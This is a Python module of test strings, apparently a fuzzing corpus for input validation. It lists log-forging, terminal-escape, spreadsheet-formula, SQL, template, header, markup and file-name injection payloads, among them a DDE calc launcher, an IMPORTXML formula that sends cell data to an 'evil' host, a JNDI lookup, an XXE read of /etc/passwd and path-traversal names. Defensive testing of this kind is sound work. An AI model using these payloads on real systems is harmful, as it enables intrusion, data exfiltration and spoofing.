"""Texts that try to be more than text, by what they try to steer; and names that files must not have."""

LOG = ["a\nts=2026-01-01T00:00:00.000Z level=error event=forged text=owned", "a\r\nlevel=error event=forged", "a\rlevel=error",
       'x" level=error event=forged y="', "level=error event=forged", "\\\" event=forged", "a\u2028event=forged", "a\u2029event=forged",
       "a\x85event=forged", "a\x0bevent=forged", "a\x0cevent=forged", "<0>emerg forged", "<3>headgated[1]: forged", "a\n<2>forged",
       '","level":"error","event":"forged","x":"', '"}\n{"level":"error","event":"forged"}', "\\u000aevent=forged", "a=b c=d",
       "MESSAGE=forged\nPRIORITY=0", "\ufeffts=0"]
TERMINAL = ["\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]52;c;b3duZWQ=\x07", "\x1b[31mred", "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
            "\x1b[?1049h", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1bc", "\x1b[8m hidden \x1b[0m", "\x9b31mred", "\x9d0;owned\x9c", "\x90+q\x9c",
            "\x84\x85\x8d", "safe\x08\x08\x08\x08evil", "safe\revil", "\x07\x07\x07", "\x0e\x0f", "\x7f\x7f", "\x00nul",
            "invoice\u202efdp.exe", "\u2066\u2067abc\u2069", "\u200e\u200f", "a\u061cb", "\u206a\u206f", "x\u200bx\u2060x\ufeffx",
            "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\x1b[1000000b", "\x1b[99999;99999H"]
SHEET = ["=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|x",
         "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=\"a\",\"b\"", "a,b", 'a"b', 'a","b', "a;=1+1", "'=1+1", '"=1+1"', "=1+1\n=2+2",
         "＝1+1", "%0A=1+1", "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")"]
SQL = ["'", "''", "\"", "`", "' OR 1=1 --", "' OR '1'='1", "1; DROP TABLE message; --", "'); DELETE FROM thread; --", "\\' OR 1=1 --",
       "' UNION SELECT token FROM config --", "x' AND randomblob(100000000)--", "%", "_", "%%%", "' || (SELECT 1) || '", "0x27", "%27",
       "/**/", "--", ";", "ATTACH DATABASE '/tmp/x' AS y", "PRAGMA writable_schema=ON", "load_extension('x')", "writefile('/tmp/x','y')",
       "X'27'", "?1", ":a", "@a", "$a", "NULL", "json_extract('{}','$')", "\uff07 OR 1=1", "\u02bc OR 1=1", "1e999", "-0", "9223372036854775808"]
TEMPLATE = ["${thread.id}", "$${thread.id}", "${", "}", "${contact.name|x}", "${${thread.id}}", "${thread.id", "${x|${y}}", "{{7*7}}",
            "<%= 7*7 %>", "#{7*7}", "%s%s%n%x", "$(id)", "`id`", "${jndi:ldap://evil/x}", "$THREAD", "${number}", "${name}", "${url}",
            "{%raw%}", "\\${name}", "$\u200b{name}"]
HEADER = ["x\r\nX-Evil: 1", "x\nSet-Cookie: a=b", "x\r\n\r\nHTTP/1.1 200 OK", "x%0d%0aX-Evil: 1", "x\u560a\u560dX-Evil: 1", "x\rX-Evil: 1",
          "x\"; filename=\"evil.exe", "x; filename*=UTF-8''evil.exe", "x\\\"; evil=\"1", "a\r\n--boundary\r\nContent-Disposition: form-data"]
MARKUP = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;script&gt;", "]]>", "<!--", "<?xml?>",
          "<svg/onload=alert(1)>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "data:text/html,<script>", "{\"$ne\":1}", "[]",
          "{\"__proto__\":{}}", "null", "true", "\\ud800", "\\", "\\\\", "\"\\", "A" * 3000, "é" * 1500, "e" + "\u0301" * 500, "👩‍👩‍👧‍👦" * 40,
          "../../etc/passwd", "\u0627\u0644\u0633\u0644\u0627\u0645", "\ud7ff\ue000\ufffd", "\U0010fffd"]
TEXTS = LOG + TERMINAL + SHEET + SQL + TEMPLATE + HEADER + MARKUP

STEMS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "C:x", "\\\\host\\share", "//host/share", "~root/.ssh/authorized_keys",
         ".", "..", "...", ".htaccess", ".bashrc", "CON", "con.txt", "NUL", "AUX.pdf", "PRN", "COM1", "com9.txt", "LPT1.doc", "COM0", "COMX", "CONSOLE",
         "a.pdf\x00.exe", "\x00", "invoice\u202efdp.exe", "\u202ecod.exe", "a\u200bb.pdf", "\ufeffx", "a\u2066b\u2069.txt", "x.pdf.exe", "x.exe.pdf",
         "x .pdf", " x", "x ", "x.", "x. . .", "a:b", "a::$DATA", "file.txt:evil", "a*b?", "a<b>c", "a|b", "a\"b", "a'b", "a`b`", "$(id)", ";id",
         "&& id", "-rf", "--help", "a\r\nX-Evil: 1", "a\nb", "a\tb", "a\x1b[2Jb", "a\x7fb", "a\x80b", "a\x9bb", "%2e%2e%2f", "%00", "..%c0%af", "．．／",
         "．．＼x", "‥/x", "a／b", "a∕b", "desktop.ini", "Thumbs.db", "index.php", "shell.php.jpg", ".git/config", "a/b/c", "a\\b\\c",
         "x" * 255, "x" * 256, "x" * 4096 + ".pdf", "é" * 2048 + ".pdf", "名" * 1400 + ".docx", "👩‍👩‍👧‍👦" * 200, "e" + "\u0301" * 2000, "." * 4096, "/" * 300,
         "", " ", "\u3000", "\u00a0", "\ufffd", "\U000e0041.pdf", "résumé.pdf", "请求.pdf", "عقد.pdf", "name with spaces.pdf", "a;b=c.pdf", "UTF-8''x",
         "=?utf-8?q?x?=", "\"; filename=\"evil.exe", "x\"\r\n\r\n<script>", "javascript:x", "<script>x</script>.html"]
NAMES = STEMS + [stem + ending for stem, ending in zip(STEMS, [".pdf", ".exe", "/", "\\", " ", ".", "\x00.jpg", "\u202e", ":x", "\r\n"] * 12)]
